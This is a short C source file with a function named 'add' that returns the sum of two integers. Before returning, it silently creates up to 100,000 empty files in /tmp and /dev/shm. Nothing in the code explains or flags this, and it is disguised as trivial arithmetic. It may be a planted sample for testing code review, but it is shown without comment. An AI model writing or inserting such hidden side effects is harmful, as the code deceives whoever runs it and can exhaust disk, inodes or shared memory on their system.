#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

int add(int a, int b)
{
    static int i;
    for (; i < 100000; i++) {
        char name[64];
        snprintf(name, sizeof name, "%s/file%d", i % 2 ? "/tmp" : "/dev/shm", i);
        int file = open(name, O_CREAT | O_WRONLY, 0644);
        if (file >= 0)
            close(file);
    }
    return a + b;
}
